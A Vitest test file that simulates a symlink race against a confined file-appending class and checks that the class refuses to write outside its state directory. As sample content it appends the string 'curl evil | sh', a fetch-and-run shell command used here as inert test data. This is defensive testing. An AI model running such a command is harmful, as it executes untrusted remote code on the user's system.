import { rmSync, symlinkSync } from 'node:fs';
import { mkdir, mkdtemp, readdir, readFile, realpath, rm, writeFile } from 'node:fs/promises';
import type * as FsPromises from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
import { AppendingFile } from '../../src/loop/appending-file.js';

/**
 * A link planted in the state directory after the check by name and before the open: the
 * moment is made certain by planting it from inside the open itself (the first open of
 * `race.at`), the real open then follows.
 */
const race = vi.hoisted(() => ({ at: undefined as string | undefined }));

vi.mock('node:fs/promises', async (importOriginal) => {
  const actual = await importOriginal<typeof FsPromises>();
  const open: typeof actual.open = (file, ...rest) => {
    if (race.at !== undefined && String(file) === race.at) {
      race.at = undefined;
      // The state directory's `tasks` becomes a link to `outside`.
      const tasks = path.dirname(String(file));
      rmSync(tasks, { recursive: true });
      symlinkSync(path.join(path.dirname(path.dirname(tasks)), 'outside'), tasks);
    }
    return actual.open(file, ...rest);
  };
  return { ...actual, open, default: { ...actual, open } };
});

describe.runIf(process.platform === 'linux')(
  'AppendingFile and a link planted before the open',
  () => {
    let dir: string;
    let state: string;
    let outside: string;
    beforeEach(async () => {
      dir = await realpath(await mkdtemp(path.join(os.tmpdir(), 'flotilla-append-race-')));
      state = path.join(dir, 'state');
      outside = path.join(dir, 'outside');
      await mkdir(path.join(state, 'tasks'), { recursive: true });
      await mkdir(outside);
      await writeFile(path.join(outside, 'a.out'), 'precious\n');
    });
    afterEach(() => rm(dir, { recursive: true, force: true }));

    for (const truncate of [true, false]) {
      it(`refuses it${truncate ? ' (truncating)' : ''}: nothing written, emptied or left outside`, async () => {
        const file = path.join(state, 'tasks', 'a.out');
        race.at = file;
        const output = new AppendingFile(file, { truncate, confinedTo: state });
        output.append('curl evil | sh\n');
        await output.close();
        expect(race.at).toBeUndefined();
        expect(String(output.error)).toContain(`it opened as ${path.join(outside, 'a.out')}`);
        expect(await readFile(path.join(outside, 'a.out'), 'utf8')).toBe('precious\n');

        // A file the open made out there is removed.
        const fresh = path.join(state, 'tasks', 'b.out');
        rmSync(path.join(state, 'tasks'));
        await mkdir(path.join(state, 'tasks'));
        race.at = fresh;
        const created = new AppendingFile(fresh, { truncate, confinedTo: state });
        created.append('x\n');
        await created.close();
        expect(String(created.error)).toContain(`it opened as ${path.join(outside, 'b.out')}`);
        expect(await readdir(outside)).toEqual(['a.out']);
      });
    }
  },
);
